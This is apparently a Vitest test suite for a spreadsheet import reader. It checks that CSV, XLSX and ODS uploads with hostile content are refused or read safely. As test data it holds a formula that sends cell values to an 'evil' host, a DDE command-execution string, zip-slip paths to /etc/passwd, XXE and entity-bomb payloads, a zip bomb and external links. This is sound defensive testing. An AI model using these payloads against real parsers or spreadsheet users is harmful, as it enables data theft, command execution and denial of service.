import { createHash } from 'node:crypto';
import { Readable } from 'node:stream';
import { gzipSync } from 'node:zlib';
import { describe, expect, test } from 'vitest';
import { FileProblem } from '../../../api/src/imports/reading/file-problem.ts';
import { standardLimits } from '../../../api/src/imports/reading/limits.ts';
import { openSheets } from '../../../api/src/imports/reading/open.ts';
import { all, refusalOf, rowsOf, textsOf, workbookOf } from './sheets.ts';
import { inline, workbookParts, zip } from './zip.ts';

const book = (rows: string, more = {}) => zip(workbookParts(rows, more));
const row = (text: string) => `<row r="1">${inline('A1', text)}</row>`;

describe('formulas', () => {
  test('are never run: the value that the file keeps is read', async () => {
    const bytes = await workbookOf({
      Data: [[{ formula: 'HYPERLINK("http://evil/?"&A2)', result: 'Sinar Jaya' } as never, 'x']],
    });
    expect(await textsOf(bytes)).toEqual([['Sinar Jaya', 'x']]);
  });

  test('without a value are told apart from empty cells', async () => {
    expect(await textsOf(book('<row r="1"><c r="A1"><f>1+1</f></c></row>'))).toEqual([['#CALC!']]);
  });

  test.each(['=1+1', '+62 812', '-5', '@SUM(A1)', "=cmd|'/c calc'!A1"])(
    'a text that begins like one is a text: %s',
    async (text) => {
      expect(await textsOf(`Nama;Isi\nA;${text}\n`, 'data.csv')).toEqual([
        ['Nama', 'Isi'],
        ['A', text],
      ]);
      expect(await textsOf(book(row(text)))).toEqual([[text]]);
    },
  );
});

describe('archives', () => {
  test('a bomb is refused by what it unpacks to, whatever it says of its size', async () => {
    const rows = `<worksheet><sheetData>${'<row/>'.repeat(8_000_000)}</sheetData></worksheet>`;
    const bomb = (said?: number) =>
      zip(
        workbookParts('').map((part) =>
          part.name.endsWith('sheet1.xml') ? { ...part, bytes: rows, ...(said ? { said } : {}) } : part,
        ),
      );
    expect(bomb().length).toBeLessThan(100_000);
    expect(await refusalOf(bomb())).toBe('TOO_LARGE');
    expect(await refusalOf(bomb(1000))).toBe('BROKEN');
  });

  test('all parts together are bounded too', async () => {
    const rows = Array.from(
      { length: 2000 },
      (_, at) => `<row r="${at + 1}">${inline(`A${at + 1}`, String(Math.sin(at)))}</row>`,
    ).join('');
    expect(await refusalOf(book(rows), 'data.xlsx', { unpackedBytes: 50_000 })).toBe('TOO_LARGE');
    expect(await refusalOf(book(rows))).toBe('READ');
  });

  test('names that lead out of the archive are refused', async () => {
    for (const name of ['../../etc/passwd', '/etc/passwd', 'C:/windows/x', 'xl\\..\\..\\x'])
      expect(await refusalOf(zip([...workbookParts(row('a')), { name, bytes: 'x' }]))).toBe('BROKEN');
  });

  test('two parts of one name are refused: readers differ on which they take', async () => {
    expect(await refusalOf(zip([...workbookParts(row('a')), { name: 'XL/workbook.xml', bytes: '<workbook/>' }]))).toBe(
      'UNSAFE',
    );
  });

  test('one that is cut short, or is no sheet, is refused', async () => {
    const whole = book(row('a'));
    expect(await refusalOf(whole.subarray(0, whole.length - 30))).toBe('BROKEN');
    expect(
      await refusalOf(
        zip([
          { name: 'word/document.xml', bytes: '<w/>' },
          { name: '[Content_Types].xml', bytes: '<Types/>' },
        ]),
      ),
    ).toBe('NOT_A_SHEET');
  });

  test('a locked one says so', async () => {
    expect(await refusalOf(zip(workbookParts(row('a')).map((part) => ({ ...part, encrypted: true as const }))))).toBe(
      'LOCKED',
    );
    const wrapped = Buffer.concat([
      Buffer.from('d0cf11e0a1b11ae1', 'hex'),
      Buffer.alloc(2000),
      Buffer.from('EncryptedPackage', 'utf16le'),
    ]);
    expect(await refusalOf(wrapped)).toBe('LOCKED');
  });

  test('a file that is larger than is taken is refused as it arrives', async () => {
    let sent = 0;
    const endless = Readable.from(
      (function* () {
        for (;;) {
          sent += 2 ** 16;
          yield Buffer.alloc(2 ** 16, 'a');
        }
      })(),
    );
    const reading = all(
      openSheets(endless, 'data.csv', {
        ...standardLimits,
        fileBytes: 2 ** 20,
      }),
    );
    await expect(reading).rejects.toMatchObject({ code: 'TOO_LARGE' });
    expect(sent).toBeLessThan(2 ** 21);
  });
});

describe('workbooks', () => {
  test('macros are refused, under whatever name', async () => {
    const withMacros = book(row('a'), { 'xl/vbaProject.bin': 'x' });
    expect(await refusalOf(withMacros, 'data.xlsx')).toBe('MACROS');
    expect(await refusalOf(book(row('a')), 'data.xlsm')).toBe('MACROS');
    expect(
      await refusalOf(
        book(row('a'), {
          '[Content_Types].xml':
            '<Types><Override ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>',
        }),
      ),
    ).toBe('MACROS');
    expect(await refusalOf(book(row('a'), { 'xl/macrosheets/sheet1.xml': '<x/>' }))).toBe('MACROS');
  });

  test('links to other files are not followed', async () => {
    const rels = `<Relationships><Relationship Id="rId1" Type="x/worksheet" Target="file:///etc/passwd" TargetMode="External"/><Relationship Id="rId2" Type="x/externalLink" Target="http://evil/x.xlsx" TargetMode="External"/></Relationships>`;
    expect(await refusalOf(book(row('a'), { 'xl/_rels/workbook.xml.rels': rels }))).toBe('EMPTY');
    expect(await textsOf(book(row('a'), { 'xl/externalLinks/externalLink1.xml': '<externalLink/>' }))).toEqual([['a']]);
  });

  test('entities and document types are refused', async () => {
    const laughs = '<!DOCTYPE x [<!ENTITY a "haha"><!ENTITY b "&a;&a;&a;&a;">]>';
    const reading = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>';
    for (const type of [laughs, reading]) {
      const sheet = `<?xml version="1.0"?>${type}<worksheet><sheetData>${row('&b;')}</sheetData></worksheet>`;
      expect(await refusalOf(book('', { 'xl/worksheets/sheet1.xml': sheet }))).toBe('UNSAFE');
    }
    expect(await refusalOf(book(row('&b;')))).toBe('BROKEN');
    expect(await textsOf(book(row('A &amp; B &#60;C&#62;')))).toEqual([['A & B <C>']]);
  });

  test('a million empty rows are passed over', async () => {
    const rows = Array.from({ length: 1_000_000 }, (_, at) => `<row r="${at + 1}"/>`).join('');
    const all = await rowsOf(book(`${rows}<row r="1048576">${inline('A1048576', 'akhir')}</row>`));
    expect(all).toMatchObject([{ number: 1_048_576, cells: [{ text: 'akhir' }] }]);
  });

  test('a cell beyond what Excel takes is refused before it is held', async () => {
    expect(await refusalOf(book(row('a'.repeat(32_767))))).toBe('READ');
    expect(await refusalOf(book(row('a'.repeat(32_768))))).toBe('TOO_LONG_A_CELL');
    const shared = { 'xl/sharedStrings.xml': `<sst><si><t>${'a'.repeat(40_000)}</t></si></sst>` };
    const rels =
      '<Relationships><Relationship Id="rId1" Type="x/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="rId2" Type="x/sharedStrings" Target="sharedStrings.xml"/></Relationships>';
    expect(
      await refusalOf(
        book('<row r="1"><c r="A1" t="s"><v>0</v></c></row>', { ...shared, 'xl/_rels/workbook.xml.rels': rels }),
      ),
    ).toBe('TOO_LONG_A_CELL');
  });

  test('a cell that never ends is refused before it is held, however well it packs', async () => {
    const before = process.memoryUsage().rss;
    const huge = Buffer.alloc(64 * 2 ** 20, 'abcdefghijklmnopqrstuvwxyz0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZ');
    const sheet = Buffer.concat([
      Buffer.from('<worksheet><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>'),
      huge,
    ]);
    expect(await refusalOf(book('', { 'xl/worksheets/sheet1.xml': sheet }), 'data.xlsx', { ratio: 2000 })).toBe(
      'TOO_LONG_A_CELL',
    );
    expect(process.memoryUsage().rss - before).toBeLessThan(400 * 2 ** 20);
  });

  test('a tag without an end, and one within another without an end, are refused', async () => {
    expect(await refusalOf(book(`<row r="1" a="${'x'.repeat(3_000_000)}"/>`))).toBe('TOO_LONG_A_CELL');
    expect(await refusalOf(book('<a>'.repeat(1000)))).toBe('UNSAFE');
  });

  test('what stands far to the right is refused, unless it is empty', async () => {
    expect(await refusalOf(book(`<row r="1">${inline('XFD1', 'a')}</row>`))).toBe('TOO_MANY_COLUMNS');
    expect(await textsOf(book(`<row r="1">${inline('A1', 'a')}<c r="XFD1" s="1"/></row>`))).toEqual([['a']]);
  });

  test('a sheet of LibreOffice cannot repeat a row without end', async () => {
    const content = (times: number) =>
      zip([
        { name: 'mimetype', bytes: 'application/vnd.oasis.opendocument.spreadsheet' },
        {
          name: 'content.xml',
          bytes: `<x xmlns:table="t" xmlns:text="u"><table:table table:name="A"><table:table-row table:number-rows-repeated="${times}"><table:table-cell><text:p>a</text:p></table:table-cell></table:table-row></table:table></x>`,
        },
      ]);
    expect(await refusalOf(content(1_048_576), 'data.ods')).toBe('TOO_LARGE');
    expect(await rowsOf(content(3), 'data.ods')).toHaveLength(3);
  });

  test('those of older Excel are refused with how to save them', async () => {
    const old = Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(2000)]);
    await expect(rowsOf(old, 'data.xls')).rejects.toMatchObject({
      code: 'OLD_EXCEL',
      said: { id: expect.stringContaining('.xlsx') },
    });
    expect(await refusalOf(book('', { 'xl/workbook.bin': 'x' }))).toBe('OLD_EXCEL');
    expect(await refusalOf('<html><table><tr><td>Nama</td></tr></table></html>', 'data.xls')).toBe('WEB_PAGE');
  });
});

describe('texts', () => {
  test('one line without an end is refused', async () => {
    expect(await refusalOf('a'.repeat(3_000_000), 'data.csv')).toBe('TOO_LONG_A_CELL');
    expect(await refusalOf(`"${'a,\n'.repeat(1_000_000)}`, 'data.csv')).toBe('TOO_LONG_A_CELL');
    expect(await refusalOf('Nama,"tanpa akhir\nA,B\n', 'data.csv')).toBe('BROKEN');
    expect(await refusalOf(','.repeat(1000).concat('a\n'), 'data.csv')).toBe('TOO_MANY_COLUMNS');
  });

  test('bytes that are no text are marked, not guessed', async () => {
    const bytes = Buffer.concat([Buffer.from('Nama;Café é è\nA;'), Buffer.from([0xff]), Buffer.from('B\n')]);
    expect(await textsOf(bytes, 'data.csv')).toEqual([
      ['Nama', 'Café é è'],
      ['A', '\ufffdB'],
    ]);
  });

  test('zeros within a text are left out, and a file full of them is no text', async () => {
    expect(await textsOf(`${'Nama;Kota\n'.repeat(50)}Si\0nar;B\n`, 'data.csv').then((rows) => rows.at(-1))).toEqual([
      'Sinar',
      'B',
    ]);
    expect(await refusalOf(Buffer.concat([Buffer.from('abc'), Buffer.alloc(5000)]), 'data.csv')).toBe('NOT_A_SHEET');
  });

  test('random bytes are no sheet, whatever they are called; a text with a stray sign or two is one', async () => {
    const bytes = (count: number, of = '') =>
      Buffer.concat(Array.from({ length: count / 32 }, (_, at) => createHash('sha256').update(`${of}${at}`).digest()));
    for (const name of ['data.xlsx', 'data.ods', 'data.csv'])
      expect(await refusalOf(bytes(200_000, name), name)).toBe('NOT_A_SHEET');
    expect(await refusalOf(gzipSync(bytes(100_000)), 'data.xlsx')).toBe('NOT_A_SHEET');
    for (const mark of ['fffe', 'feff'])
      expect(await refusalOf(Buffer.concat([Buffer.from(mark, 'hex'), bytes(200_000, mark)]), 'data.csv')).toBe(
        'NOT_A_SHEET',
      );
    const written = `\ufeffNama;Catatan\n${'Sinar Jaya;Ekspor ke 日本 🧵\n'.repeat(20)}\uf0b7 Maju;\u0007\n`;
    expect(await refusalOf(Buffer.from(written, 'utf16le'), 'data.csv')).toBe('READ');
    expect(await textsOf(`${'Nama;Kota\n'.repeat(50)}Si\x0bnar;B\n\x1a`, 'data.csv').then((rows) => rows.length)).toBe(
      51,
    );
  });

  test('an empty file, and one of empty rows, are told as such', async () => {
    expect(await refusalOf('')).toBe('EMPTY');
    expect(await refusalOf('\n;;\n\n', 'data.csv')).toBe('EMPTY');
    expect(await refusalOf('%PDF-1.7 x', 'data.pdf')).toBe('NOT_A_SHEET');
  });
});

test('what is refused quotes nothing of the file', async () => {
  for (const bytes of [book(row('3505012345678901 &b;')), Buffer.from('Nama,"3505012345678901')]) {
    const error = await rowsOf(bytes, 'data.csv').catch((thrown) => thrown);
    expect(error).toBeInstanceOf(FileProblem);
    expect(`${error.message} ${JSON.stringify(error)}`).not.toContain('35050');
  }
});
